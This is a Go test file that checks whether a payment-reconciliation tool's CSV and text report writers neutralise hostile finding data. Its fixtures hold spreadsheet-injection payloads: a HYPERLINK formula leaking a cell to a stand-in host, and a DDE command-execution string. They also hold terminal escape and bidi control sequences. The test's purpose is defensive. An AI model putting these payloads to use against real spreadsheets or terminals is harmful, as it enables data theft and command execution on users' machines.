package report_test

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/reconcilehq/reconcile/internal/golden"
	"github.com/reconcilehq/reconcile/ledger"
	"github.com/reconcilehq/reconcile/money"
	"github.com/reconcilehq/reconcile/report"
)

// hostileFindings carry what an outsider can put into a finding: keys,
// references and counterparties that are spreadsheet formulas or terminal
// control sequences, and a negative amount that must stay a number.
func hostileFindings(t *testing.T) []ledger.Finding {
	t.Helper()
	amt := func(v string) money.Amount {
		a, err := money.Parse(v, "KES")
		if err != nil {
			t.Fatal(err)
		}
		return a
	}
	at := time.Date(2024, 2, 6, 9, 0, 0, 0, time.UTC)
	return []ledger.Finding{
		{ID: "f1", Kind: ledger.KindUnknownCharge, Severity: ledger.SeverityMedium, Provider: "mpesa",
			ProviderTxnIDs: []string{"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"}, Expected: amt("0"),
			Actual: amt("100"), AtRisk: amt("100"), Counterparty: "@SUM(A1:A9)", OccurredAt: at,
			Detail: "successful charge of KES 100.00 links to no intent (reference \"+cmd|' /C calc'!A0\")", Status: ledger.FindingOpen},
		{ID: "f2", Kind: ledger.KindAmountMismatch, Severity: ledger.SeverityMedium, Provider: "mpesa",
			IntentKey: "-2+3\x1b]0;owned\x07\x1b[2J", ProviderTxnIDs: []string{"\tTAB", "\rCR"}, Expected: amt("100"),
			Actual: amt("-40.50"), AtRisk: amt("-140.50"), Counterparty: "2547****0845\nforged line", OccurredAt: at.Add(time.Minute),
			Detail: "detail with \x9b31m C1 and \u202e bidi", Status: ledger.FindingOpen, Note: "=1+1"},
	}
}

func TestHostileTextIsSafeForItsReader(t *testing.T) {
	t.Parallel()
	fs := hostileFindings(t)
	var csvOut, textOut bytes.Buffer
	if err := report.WriteFindings(&csvOut, report.CSV, fs); err != nil {
		t.Fatal(err)
	}
	if err := report.WriteFindings(&textOut, report.Text, fs); err != nil {
		t.Fatal(err)
	}
	golden.Assert(t, "testdata/hostile.csv.golden", csvOut.Bytes())
	golden.Assert(t, "testdata/hostile.text.golden", textOut.Bytes())

	rows, err := csv.NewReader(bytes.NewReader(csvOut.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows[1:] {
		for i, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !strings.HasSuffix(rows[0][i], "_amount") {
				t.Errorf("column %s starts with %q: %q", rows[0][i], c[0], c)
			}
		}
	}
	if !strings.Contains(csvOut.String(), ",-40.50,") {
		t.Errorf("a negative amount is no longer a number:\n%s", csvOut.String())
	}
	for _, bad := range []string{"\x1b", "\x07", "\x9b", "\u202e", "\rCR", "\nforged"} {
		if strings.Contains(textOut.String(), bad) {
			t.Errorf("text output holds %q raw:\n%s", bad, textOut.String())
		}
	}
}
